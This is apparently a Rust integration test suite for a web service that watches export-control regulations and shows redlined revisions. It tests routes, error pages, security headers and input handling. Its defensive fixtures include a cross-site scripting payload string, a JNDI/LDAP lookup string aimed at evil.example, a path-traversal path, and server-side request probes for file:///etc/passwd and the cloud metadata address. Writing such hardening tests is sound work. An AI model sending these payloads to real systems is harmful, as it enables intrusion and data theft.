//! The service's face on this machine: every address it answers at, in good order and in bad.

#[path = "support/mod.rs"]
mod support;

use reqwest::{Method, Response};
use serde_json::{Value, json};
use support::house::House;
use support::service::Running;
use support::site::{Answer, Site};

fn rule(percent: u32) -> String {
    format!(
        "<html><head><title>Part 912</title></head><body><main><h1>Part 912—Safeguards</h1>\
         <p>(a) A license is required to export an item described in the schedule to any destination in Group D, unless \
         the consignee is listed in Supplement No. 2 to this part.</p>\
         <p>(b) The share of a consignee owned by a listed entity may not exceed {percent} percent.</p></main></body></html>"
    )
}

/// A service that watches `xx-rule` and has seen it revised once.
struct Served {
    running: Running,
    site: Site,
    _house: House,
}

impl Served {
    /// With these two texts as the first and the second version.
    async fn start(first: &str, second: &str) -> Served {
        let site = Site::start().await;
        let house = House::new(site.address(), "");
        house.source("xx-rule", &site.url("/rule"));
        site.serve("/rule", Answer::html(first));
        house.say(&["check", "--all"]).await;
        site.serve("/rule", Answer::html(second));
        house.say(&["check", "--all"]).await;
        Served { running: Running::start(&house).await, site, _house: house }
    }

    async fn usual() -> Served {
        Served::start(&rule(50), &rule(25)).await
    }

    async fn ask(&self, method: Method, path: &str) -> Response {
        self.running.client.request(method, self.running.url(path)).send().await.expect("an answer")
    }

    async fn get(&self, path: &str) -> Response {
        self.ask(Method::GET, path).await
    }

    async fn post(&self, path: &str, body: &'static str) -> Response {
        self.running.client.post(self.running.url(path)).body(body).send().await.expect("an answer")
    }
}

async fn json_of(answer: Response) -> Value {
    serde_json::from_slice(&answer.bytes().await.expect("a body")).expect("JSON")
}

fn header<'a>(answer: &'a Response, name: &str) -> &'a str {
    answer.headers().get(name).map_or("", |value| value.to_str().expect("text"))
}

/// Every route with an address that answers 200.
const GOOD: [&str; 30] = [
    "/revisions/1?view=changed",
    "/script.js",
    "/sources",
    "/sources/xx-rule",
    "/sources/xx-rule/compare?from=1&to=latest&view=side-by-side",
    "/sources/xx-rule/versions/2",
    "/sources/xx-rule/versions/2/raw",
    "/events/1",
    "/compare",
    "/upcoming",
    "/?q=percent&order=newest",
    "/?q=25+%22listed+entity%22+-zinc&severity=1",
    "/api/v1/sources/xx-rule/diff?format=patch",
    "/",
    "/status",
    "/revisions/1",
    "/revisions/1?view=side-by-side",
    "/style.css",
    "/healthz",
    "/api/v1/sources/xx-rule/diff",
    "/api/v1/sources/xx-rule/diff?format=html",
    "/api/v1/sources/xx-rule/diff?format=html-side-by-side",
    "/api/v1/sources/xx-rule/diff?format=json",
    "/api/v1/redline.schema.json",
    "/api/v1/webhook.schema.json",
    "/feed.atom?source=xx-rule",
    "/feed.json",
    "/api/v1/sources/xx-rule/diff?format=markdown",
    "/api/v1/sources/xx-rule/diff?from=1&to=2&format=text",
    "/api/v1/checks/1?wait=30",
];

/// What is asked wrongly, and the status of the answer.
const BAD: [(&str, u16); 39] = [
    ("/?severity=9", 422),
    ("/?after=yesterday", 422),
    ("/sources/xx-none", 404),
    ("/sources/xx-rule?at=1999-01-01", 404),
    ("/sources/xx-rule/versions/9", 404),
    ("/sources/xx-rule/versions/9/raw", 404),
    ("/sources/xx-rule/compare?from=x", 422),
    ("/events/99", 404),
    ("/upcoming?from=soon", 422),
    ("/nowhere", 404),
    ("/revisions/99", 404),
    ("/revisions/one", 404),
    ("/sources/xx-rule/versions/one", 404),
    ("/events/one", 404),
    ("/revisions/1?language=fr", 422),
    ("/sources/xx-rule?at=2019-02-30", 422),
    ("/?from=2027-01-01&to=2020-01-01", 422),
    ("/revisions/", 404),
    ("/feed.atom?severity=6", 422),
    ("/feed.json?colour=red", 422),
    ("/revisions/1?view=upside-down", 422),
    ("/api/v1/checks", 405),
    ("/api/v1/checks/99", 404),
    ("/api/v1/checks/one", 404),
    ("/api/v1/checks/1?wait=long", 422),
    ("/api/v1/checks/1?wait=-1", 422),
    ("/api/v1/sources/xx-none/diff", 404),
    ("/api/v1/sources/..%2F..%2Fetc/diff", 404),
    ("/api/v1/sources/xx-rule/diff?from=yesterday", 422),
    ("/api/v1/sources/xx-rule/diff?to=77", 404),
    ("/api/v1/sources/xx-rule/diff?from=1999-01-01", 404),
    ("/api/v1/sources/xx-rule/diff?format=doc", 422),
    ("/api/v1/sources/%ff/diff", 404),
    ("/sources/xx-none/amend?text=xx-rule", 404),
    ("/sources/xx-rule/amend", 422),
    ("/sources/xx-rule/amend?text=xx-none", 404),
    ("/sources/xx-rule/amend?text=xx-rule@yesterday", 422),
    ("/sources/xx-rule/amend?text=xx-rule&on=soon", 422),
    // It amends nothing.
    ("/sources/xx-rule/amend?text=xx-rule", 404),
];

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn every_route_answers_in_its_form_with_the_headers_that_close_it() {
    let served = Served::usual().await;
    assert_eq!(served.post("/api/v1/checks", "").await.status(), 202);
    for path in GOOD {
        let answer = served.get(path).await;
        assert_eq!(answer.status(), 200, "{path}");
        let expected = match path {
            "/style.css" => "text/css; charset=utf-8",
            "/healthz" => "text/plain; charset=utf-8",
            "/script.js" => "text/javascript; charset=utf-8",
            _ if path.ends_with("/raw") => "application/octet-stream",
            _ if path.ends_with("format=patch") => "text/plain; charset=utf-8",
            "/feed.json" => "application/feed+json",
            _ if path.starts_with("/feed.atom") => "application/atom+xml; charset=utf-8",
            _ if path.starts_with("/api/v1/checks") => "application/json",
            _ if path.ends_with("format=json") => "application/json",
            _ if path.ends_with("schema.json") => "application/schema+json",
            _ if path.ends_with("format=markdown") => "text/markdown; charset=utf-8",
            _ if path.ends_with("diff") || path.ends_with("format=text") => "text/plain; charset=utf-8",
            _ => "text/html; charset=utf-8",
        };
        assert_eq!(header(&answer, "content-type"), expected, "{path}");
        closed(&answer, path);
        let head = served.ask(Method::HEAD, path).await;
        assert_eq!(head.status(), 200, "HEAD {path}");
        let body = answer.text().await.expect("a body");
        let told = match path {
            "/style.css" | "/script.js" => "{",
            "/upcoming" => "dates.ics",
            "/sources" => "xx-rule",
            "/compare" => "multipart/form-data",
            "/healthz" => "ready",
            "/" | "/status" => "xx-rule",
            _ if path.starts_with("/api/v1/checks") => "\"done\":true",
            _ if path.ends_with("schema.json") => "additionalProperties",
            _ => "25",
        };
        assert!(body.contains(told), "{path}: {body}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_rule_shows_the_part_it_amends_as_it_will_read() {
    let site = Site::start().await;
    let house = House::new(site.address(), "");
    for (id, name) in [("xx-fr", "rule.xml"), ("xx-ecfr", "part.xml")] {
        let text =
            std::fs::read(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/amend/").to_owned() + name).expect("a text");
        site.serve(&format!("/{id}"), Answer::body("application/xml", text));
        house.source(id, &site.url(&format!("/{id}")));
    }
    house.say(&["check", "--all"]).await;
    let running = Running::start(&house).await;
    let path = "/sources/xx-fr/amend?text=xx-ecfr@1&on=2026-02-01";
    let answer = running.client.get(running.url(path)).send().await.expect("an answer");
    assert_eq!(answer.status(), 200);
    closed(&answer, path);
    let page = answer.text().await.expect("a body");
    for told in [
        "as it will read",
        "18 of 21 amendments to `xx-ecfr` applied",
        "1 amendment to other parts of the Code left out",
        "not applied: instruction 9, replace § 742.10 (from 2026-11-10): it is not in force on that date",
        "xx-ecfr, version 1 as xx-fr, version 1 amends it, 3 of 21 amendments left out",
    ] {
        assert!(page.contains(told), "{told}: {page}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_revision_of_a_source_that_left_the_watchlist_is_still_shown() {
    let Served { running, site, _house: house } = Served::usual().await;
    running.terminate();
    running.ended().await;
    std::fs::remove_file(house.path().join("watchlist/xx/xx-rule.toml")).expect("the file of the source");
    house.source("xx-other", &site.url("/rule"));
    let served = Served { running: Running::start(&house).await, site, _house: house };
    for path in ["/revisions/1", "/api/v1/sources/xx-rule/diff"] {
        let answer = served.get(path).await;
        assert_eq!(answer.status(), 200, "{path}");
        assert!(answer.text().await.expect("a body").contains("25"), "{path}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn what_is_asked_wrongly_is_a_problem_with_its_status_and_the_way_out() {
    let served = Served::usual().await;
    for (path, status) in BAD {
        let answer = served.get(path).await;
        assert_eq!(answer.status(), status, "{path}");
        problem(answer, path).await;
    }
    let bodies = [
        ("{", 400),
        ("[1]", 422),
        ("{\"sources\": \"xx-rule\"}", 422),
        ("{\"sources\": [\"../x\"]}", 422),
        ("{\"source\": [\"xx-rule\"]}", 422),
        ("{\"sources\": [\"xx-none\"]}", 404),
    ];
    for (body, status) in bodies {
        let answer = served.post("/api/v1/checks", body).await;
        assert_eq!(answer.status(), status, "{body}");
        problem(answer, body).await;
    }
    let huge = served.running.client.post(served.running.url("/api/v1/checks")).body(" ".repeat(9 << 20)).send().await;
    // Refused before it was read: the server may have closed the connection already.
    if let Ok(answer) = huge {
        assert_eq!(answer.status(), 413);
    }
    assert_eq!(served.get("/healthz").await.status(), 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn what_is_asked_wrongly_is_told_to_people_in_plain_words_of_their_language() {
    let served = Served::usual().await;
    for (path, accepted, status, told) in [
        ("/?severity=9", "en", 422, "<code>severity</code> can't be “9”: it is one of 0, 1, 2, 3, 4, 5"),
        ("/?eccn=chips", "en", 422, "it is written like 3A090"),
        ("/?from=soon", "zh-TW", 422, "寫法如：2026-01-15"),
        ("/?from=2027-01-01&to=2020-01-01", "en", 422, "the period is empty"),
        ("/upcoming?class=ZZ", "zh-CN", 422, "可填："),
        ("/revisions/abc", "en", 404, "There is no such page"),
        ("/revisions/99999999999999999999", "en", 404, "There is no such page"),
        ("/sources/xx-rule/versions/abc", "en", 404, "There is no such page"),
        ("/revisions/1?view=bogus", "en", 422, "The address asks for something that there is not: “view=bogus”"),
        ("/revisions/1?language=fr", "zh-TW", 422, "本站不提供語言「fr」"),
        ("/sources/xx-rule?at=2019-02-30", "en", 422, "There is no such day as “2019-02-30”"),
        ("/sources/xx-rule/compare?from=x&to=2", "en", 422, "“x” names no version"),
    ] {
        let asked = served.running.client.get(served.running.url(path)).header("accept", "text/html");
        let answer = asked.header("accept-language", accepted).send().await.expect("an answer");
        assert_eq!(answer.status(), status, "{path}");
        let page = answer.text().await.expect("a page");
        assert!(page.starts_with("<!DOCTYPE html>") && page.contains(told), "{path} must tell `{told}`: {page}");
        assert!(!page.contains("parse") && !page.contains("deserialize"), "{path}: {page}");
    }
    let mended = served.running.client.get(served.running.url("/?q=chips&eccn=no&issuer=XX&severity=9"));
    let page = mended.header("accept", "text/html").send().await.expect("an answer").text().await.expect("a page");
    for kept in ["value=\"chips\"", "name=\"eccn\" value=\"no\"", "<option value=\"XX\" selected>", "<details open>"] {
        assert!(page.contains(kept), "{kept} is not kept: {page}");
    }
    assert_eq!(page.matches("role=\"alert\"").count(), 2, "{page}");
    assert_eq!(
        served.get("/sources/xx-rule/compare?from=&to=").await.status(),
        200,
        "what is left empty asks for nothing"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn what_of_a_question_is_not_looked_for_is_said() {
    let served = Served::usual().await;
    let many: String = (0..17).map(|n| format!("percent{n}+")).collect();
    for (question, told) in [
        ("*+%3F!", Some("There is nothing to look for in “* ?!”")),
        ("pe*", Some("Looked for as whole words: pe.")),
        (many.as_str(), Some("it takes 16 words or phrases")),
        ("perc*", None),
    ] {
        let page = served.running.get(&format!("/?q={question}")).await;
        let says = page.contains("role=\"status\"") && page.contains(told.unwrap_or("p.hint"));
        assert_eq!(says, told.is_some(), "{question}: {page}");
        assert_eq!(page.contains("href=\"/revisions/1\""), question == "perc*", "{question}: {page}");
    }
}

async fn problem(answer: Response, asked: &str) {
    closed(&answer, asked);
    assert_eq!(header(&answer, "content-type"), "application/problem+json", "{asked}");
    let status = answer.status().as_u16();
    let told: Value = json_of(answer).await;
    assert_eq!(told["status"], json!(status), "{asked}: {told}");
    assert!(told["title"].as_str().is_some_and(|title| title.len() > 5), "{asked}: {told}");
    assert!(told["detail"].as_str().is_none_or(|detail| detail.len() > 5), "{asked}: {told}");
}

#[track_caller]
fn closed(answer: &Response, asked: &str) {
    let policy = header(answer, "content-security-policy");
    let is_page = header(answer, "content-type").starts_with("text/html") && !policy.contains("sandbox");
    let forms = if is_page { "form-action 'self'" } else { "form-action 'none'" };
    for rule in ["default-src 'none'", "base-uri 'none'", forms, "frame-ancestors 'none'"] {
        assert!(policy.contains(rule), "{asked}: {policy}");
    }
    // Only a document that is served sealed brings a style of its own.
    assert!(!policy.contains("unsafe-inline") || policy.contains("sandbox"), "{asked}: {policy}");
    let script = policy.split(';').find(|rule| rule.contains("script-src")).unwrap_or_default().trim();
    assert_eq!(script, if is_page { "script-src 'self'" } else { "" }, "{asked}: {policy}");
    assert_eq!(header(answer, "x-content-type-options"), "nosniff", "{asked}");
    assert_eq!(header(answer, "referrer-policy"), "same-origin", "{asked}");
    let is_named = asked.starts_with("/feed.") || asked.starts_with("/api/");
    let kept = if is_named && answer.status() == 200 { "no-cache" } else { "no-store" };
    assert_eq!(header(answer, "cache-control"), kept, "{asked}");
    assert!(answer.headers().get("set-cookie").is_none() && answer.headers().get("server").is_none(), "{asked}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_run_of_checks_is_begun_waited_for_and_told() {
    let served = Served::usual().await;
    served.site.serve("/rule", Answer::html(rule(10)).after(std::time::Duration::from_millis(300)));
    let begun = served.post("/api/v1/checks", "{\"sources\": [\"xx-rule\"]}").await;
    assert_eq!(begun.status(), 202);
    let run = json_of(begun).await["run"].as_u64().expect("a number");
    let early = json_of(served.get(&format!("/api/v1/checks/{run}")).await).await;
    assert_eq!(early, json!({"run": run, "done": false, "checks": []}), "without waiting");
    let ended = json_of(served.get(&format!("/api/v1/checks/{run}?wait=30")).await).await;
    assert_eq!(ended["done"], true);
    let [check] = ended["checks"].as_array().expect("a list").as_slice() else { panic!("one check: {ended}") };
    assert_eq!(
        (&check["source"], &check["status"], &check["http"]),
        (&json!("xx-rule"), &json!("revised"), &json!(200))
    );
    assert!(check["reason"].is_null() && check["severity"].as_u64() >= Some(4) && check["ms"].is_u64(), "{check}");
    let shown = served.running.get("/api/v1/sources/xx-rule/diff").await;
    assert!(shown.contains("10 percent") && shown.contains("25 percent"), "{shown}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn another_site_can_neither_read_nor_ask_for_anything() {
    let served = Served::usual().await;
    let asked = async |method: Method, path: &str, name: &str, value: &str| {
        served
            .running
            .client
            .request(method, served.running.url(path))
            .header(name, value)
            .send()
            .await
            .expect("an answer")
    };
    for host in ["evil.example", "evil.example:8300", "127.0.0.1.evil.example", "localhost.evil.example", "8.8.8.8", ""]
    {
        for path in GOOD {
            let answer = asked(Method::GET, path, "host", host).await;
            assert!(matches!(answer.status().as_u16(), 400 | 403), "{host} {path}");
            let told = answer.text().await.expect("a body");
            assert!(!told.contains("percent") && !told.contains("xx-rule"), "{host} {path}: {told}");
        }
    }
    for origin in
        ["http://evil.example", "null", "http://127.0.0.1.evil.example", "https://localhost@evil.example", "file://"]
    {
        let answer = asked(Method::POST, "/api/v1/checks", "origin", origin).await;
        assert_eq!(answer.status(), 403, "{origin}");
        closed(&answer, origin);
    }
    let crossing = asked(Method::POST, "/api/v1/checks", "sec-fetch-site", "cross-site").await;
    assert_eq!(crossing.status(), 403, "a browser that tells no origin tells this");
    let own = format!("http://{}", served.running.address);
    assert_eq!(asked(Method::POST, "/api/v1/checks", "origin", &own).await.status(), 202);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn only_a_post_sets_anything_going() {
    let served = Served::usual().await;
    let asked_before = served.site.requests().len();
    for path in GOOD.into_iter().chain(BAD.map(|(path, _)| path)) {
        for method in [Method::GET, Method::HEAD, Method::OPTIONS, Method::PUT, Method::DELETE, Method::PATCH] {
            let reads = matches!(method, Method::GET | Method::HEAD);
            let status = served.ask(method.clone(), path).await.status();
            assert!(reads || matches!(status.as_u16(), 400 | 404 | 405), "{method} {path}: {status}");
        }
        let overridden =
            served.running.client.get(served.running.url(path)).header("x-http-method-override", "POST").send().await;
        assert_ne!(overridden.expect("an answer").status(), 202, "{path}");
    }
    assert_eq!(served.site.requests().len(), asked_before, "no source was asked");
}

/// Script, handlers, links that act, SVG, style, bidirectional overrides and what would close an attribute or a script.
const HOSTILE: &str = "<h1>Part 1&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; \"&gt;&lt;img src=x onerror=alert(2)&gt; \u{202e}evil\u{202c}</h1>\
    <p>(a) A license is required <a href=\"javascript:alert(3)\">for items</a> <a href=\"data:text/html,x\">of the list</a> \
    to any destination in Group D &lt;svg onload=alert(4)&gt; &lt;/script&gt; \u{2066}unless\u{2069} \u{200b}the consignee is listed.</p>\
    <svg onload=\"alert(5)\"><style>*{background:url(http://evil.example)}</style></svg>\
    <p onclick=\"alert(6)\">(b) {{7*7}} ${jndi:ldap://evil.example} percent of &lt;iframe src=http://evil.example&gt; NUMBER</p>";

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn whatever_a_source_says_is_text_on_every_page() {
    let document = |number: &str| {
        format!(
            "<html lang='x\" onload=\"alert(7)'><body><main>{}</main></body></html>",
            HOSTILE.replace("NUMBER", number)
        )
    };
    let served = Served::start(&document("fifty"), &document("twenty")).await;
    assert_eq!(served.post("/api/v1/checks", "").await.status(), 202);
    // The raw bytes are not looked at: nothing but a file is made of them.
    for path in GOOD.iter().filter(|path| ![".css", ".js", "/raw"].iter().any(|end| path.ends_with(end))) {
        let body = served.running.get(path).await;
        let hides = |c: char| {
            (c.is_control() && c != '\n') || matches!(c, '\u{200b}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        assert_eq!(body.chars().find(|c| hides(*c)), None, "{path}: {body}");
        if !body.starts_with("<!DOCTYPE html>") {
            continue;
        }
        let page = scraper::Html::parse_document(&body);
        for node in page.tree.nodes().filter_map(|node| node.value().as_element()) {
            let name = node.name();
            let ours = match name {
                "script" => node.attr("src") == Some("/script.js"),
                "form" => node.attr("action").is_some_and(|action| action.starts_with('/')),
                // The history of a source is drawn by us.
                "svg" => path.starts_with("/sources/") && node.attr("aria-hidden") == Some("true"),
                // A redline that stands alone brings its style.
                "style" => path.contains("format=html"),
                name => !matches!(name, "img" | "iframe" | "object" | "embed" | "base" | "math"),
            };
            assert!(ours, "{path}: <{name}>");
            for (attribute, value) in node.attrs() {
                assert!(!attribute.starts_with("on"), "{path}: {attribute}={value}");
                let leads = matches!(attribute, "href" | "src");
                let acts = value.trim_start().to_ascii_lowercase();
                assert!(
                    !leads || acts.starts_with("http") || acts.starts_with('/') || acts.starts_with('#'),
                    "{path}: {value}"
                );
            }
        }
        assert!(!body.contains("url(http"), "{path}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn each_view_of_a_revision_leads_to_the_others() {
    let served = Served::usual().await;
    for (path, columns, context) in [
        ("/revisions/1", false, true),
        ("/revisions/1?view=inline", false, true),
        ("/revisions/1?view=side-by-side", true, true),
        ("/revisions/1?view=changed", false, false),
    ] {
        let body = served.running.get(path).await;
        let redline = body.split_once("id=\"redline\"").expect("a redline").1;
        let redline = redline.split_once("class=\"evidence\"").expect("its evidence").0;
        assert_eq!(redline.contains("rw-columns"), columns, "{path}");
        assert_eq!(redline.contains("A license is required"), context, "{path}: {redline}");
        assert!(redline.contains("id=\"hunk-1\"") && redline.contains("id=\"c-part-912-b\""), "{path}: {redline}");
        for other in
            ["/revisions/1#redline", "/revisions/1?view=side-by-side#redline", "/revisions/1?view=changed#redline"]
        {
            assert!(body.contains(&format!("<a href=\"{other}\"")), "{path}: {body}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_revision_is_told_in_the_language_asked_for_else_in_that_of_the_browser() {
    let served = Served::usual().await;
    for (path, accepts, tag, word) in [
        ("/revisions/1", "", "en", "What changed"),
        ("/revisions/1", "zh-TW,zh;q=0.9", "zh-Hant", "變更內容"),
        ("/revisions/1?language=zh-Hans", "zh-TW", "zh-Hans", "变更内容"),
        ("/revisions/1?language=en", "zh-TW", "en", "What changed"),
    ] {
        let asked = served.running.client.get(served.running.url(path)).header("accept-language", accepts);
        let body = asked.send().await.expect("an answer").text().await.expect("a body");
        assert!(body.contains(&format!("<html lang=\"{tag}\">")) && body.contains(word), "{path} {accepts}: {body}");
    }
    assert_eq!(served.get("/revisions/1?language=tlh").await.status(), 422);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn the_dates_of_revisions_are_a_calendar() {
    let served = Served::usual().await;
    for path in ["/dates.ics", "/revisions/1/dates.ics"] {
        let answer = served.get(path).await;
        assert_eq!((answer.status().as_u16(), header(&answer, "content-type")), (200, "text/calendar; charset=utf-8"));
        closed(&answer, path);
        let body = answer.text().await.expect("a body");
        assert!(body.starts_with("BEGIN:VCALENDAR\r\n") && body.ends_with("END:VCALENDAR\r\n"), "{body}");
    }
    assert_eq!(served.get("/revisions/99/dates.ics").await.status(), 404);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_redline_in_word_is_an_attachment_named_by_its_source_and_versions() {
    let served = Served::usual().await;
    let path = "/api/v1/sources/xx-rule/diff?format=docx";
    let answer = served.get(path).await;
    assert_eq!(answer.status(), 200);
    let expected = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    assert_eq!(header(&answer, "content-type"), expected);
    assert_eq!(header(&answer, "content-disposition"), "attachment; filename=\"xx-rule-1-2.docx\"");
    closed(&answer, path);
    let body = answer.bytes().await.expect("a body");
    let mut container = zip::ZipArchive::new(std::io::Cursor::new(body)).expect("a container");
    let text = std::io::read_to_string(container.by_name("word/document.xml").expect("the text")).expect("UTF-8");
    assert!(text.contains("<w:delText") && text.contains("<w:ins "), "{text}");
}

/// A form as a browser sends it.
fn form(fields: &[(&str, Option<&str>, &str)]) -> String {
    let part = |(name, file, value): &(&str, Option<&str>, &str)| {
        let file = file.map(|file| format!("; filename=\"{file}\"")).unwrap_or_default();
        format!("--edge\r\nContent-Disposition: form-data; name=\"{name}\"{file}\r\n\r\n{value}\r\n")
    };
    fields.iter().map(part).collect::<String>() + "--edge--\r\n"
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn two_texts_of_a_readers_own_are_compared_and_nothing_of_them_is_kept() {
    let served = Served::usual().await;
    let send = async |fields: &[(&str, Option<&str>, &str)]| {
        let request = served.running.client.post(served.running.url("/compare"));
        let request = request.header("content-type", "multipart/form-data; boundary=edge").body(form(fields));
        let answer = request.send().await.expect("an answer");
        (answer.status().as_u16(), answer.text().await.expect("a body"))
    };
    let (first, second) = (rule(50), rule(40).replace("<h1>", "<h1><script>alert(1)</script>&lt;script&gt;"));
    let (status, body) =
        send(&[("old-file", Some("old.html"), &first), ("new-file", Some("\u{202e}new.html"), &second)]).await;
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("<del class=\"rw-del\">50</del><ins class=\"rw-ins\">40</ins>"), "{body}");
    assert!(!body.contains("<script>") && !body.contains('\u{202e}'), "{body}");
    let here = served.site.url("/rule");
    let (status, body) = send(&[("old-file", Some("old.html"), &first), ("new-url", None, &here)]).await;
    assert!(status == 200 && body.contains("<ins class=\"rw-ins\">25</ins>"), "{status}: {body}");
    for (fields, expected) in [
        (vec![("old-file", Some("old.html"), first.as_str())], (400, "New text: choose a file")),
        (
            vec![("old-url", None, "file:///etc/passwd"), ("new-url", None, here.as_str())],
            (400, "Old text: choose a file"),
        ),
        (
            vec![("old-url", None, "http://169.254.169.254/latest/meta-data"), ("new-url", None, here.as_str())],
            (422, "Old text: "),
        ),
        (vec![("old-url", None, here.as_str()), ("new-url", None, "http://127.0.0.1:1/")], (422, "New text: ")),
        (vec![("old-file", Some("old.html"), "<html></html>"), ("new-url", None, here.as_str())], (422, "Old text: ")),
        (
            vec![("old-url", None, here.as_str()), ("new-file", Some("new.html"), "")],
            (422, "New text: the file “new.html” is empty"),
        ),
        (vec![("old-file", Some(""), ""), ("new-url", None, here.as_str())], (400, "Old text: choose a file")),
    ] {
        let (status, body) = send(&fields).await;
        let shown: Vec<_> = fields.iter().map(|(name, file, value)| (name, file, value.len())).collect();
        assert_eq!(status, expected.0, "{shown:?}: {body}");
        assert!(body.contains(expected.1), "{shown:?} must tell `{}`: {body}", expected.1);
    }
    let index = served.running.get("/?q=40").await;
    assert!(index.contains("class=\"none\""), "{index}");
    assert!(served.running.get("/compare").await.contains("24 MB"), "the limit is told before");
    let request = served.running.client.post(served.running.url("/compare"));
    let request = request.header("content-type", "multipart/form-data; boundary=edge");
    let large = request.body(form(&[("old-file", Some("old.html"), &"x".repeat(25 << 20))]));
    // Refused before it was read: the server may have closed the connection already.
    if let Ok(answer) = large.send().await {
        assert_eq!(answer.status(), 413);
        let body = answer.text().await.unwrap_or_default();
        assert!(body.is_empty() || body.contains("24 MB"), "{body}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_long_redline_comes_piece_by_piece_and_folded() {
    let paragraph = |n: usize, word: &str| {
        format!(
            "<p>({n}) An item of entry {n} is {word} as the annex states, unless the exporter was told otherwise.</p>"
        )
    };
    let text = |word: &str| -> String {
        let paragraphs: String =
            (0..3_000).map(|n| paragraph(n, if n % 500 == 7 { word } else { "controlled" })).collect();
        format!("<html><body><main><h1>Annex</h1>{paragraphs}</main></body></html>")
    };
    let served = Served::start(&text("controlled"), &text("released")).await;
    let mut answer = served.get("/revisions/1").await;
    assert!(answer.headers().get("content-length").is_none(), "it is not written whole before it is sent");
    let (mut pieces, mut body) = (0, String::new());
    while let Some(piece) = answer.chunk().await.expect("a piece") {
        pieces += 1;
        body.push_str(&String::from_utf8_lossy(&piece));
    }
    assert!(pieces > 3 && body.ends_with("</html>"), "{pieces} pieces, {} bytes", body.len());
    let page = scraper::Html::parse_document(&body);
    let count = |selector: &str| page.select(&scraper::Selector::parse(selector).expect("a selector")).count();
    assert_eq!(count(".rw-hunk"), 6);
    assert!(count(".rw-redline > .rw-line") < 30, "what did not change is folded");
    assert!(count("details.rw-folded") >= 6 && count("details.rw-folded[open]") == 0);
    assert!(count(".rw-folded .rw-line") > 2_900);
    let changed = served.running.get("/revisions/1?view=changed").await;
    assert!(changed.len() < body.len() / 10, "{} of {}", changed.len(), body.len());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 1)]
async fn a_day_leads_to_the_version_of_that_day_and_bytes_are_a_file_to_keep() {
    let served = Served::usual().await;
    let client =
        reqwest::Client::builder().no_proxy().redirect(reqwest::redirect::Policy::none()).build().expect("a client");
    let answer = client.get(served.running.url("/sources/xx-rule?at=latest")).send().await.expect("an answer");
    assert_eq!((answer.status().as_u16(), header(&answer, "location")), (303, "/sources/xx-rule/versions/2"));
    let answer = served.get("/sources/xx-rule/versions/1/raw").await;
    assert!(header(&answer, "content-disposition").starts_with("attachment;"));
    assert!(header(&answer, "content-security-policy").contains("sandbox"));
    assert_eq!(answer.text().await.expect("a body"), rule(50));
    let text = served.running.get("/sources/xx-rule/versions/1").await;
    assert!(text.contains("id=\"c-part-912-b\"") && text.contains("50 percent"), "{text}");
}
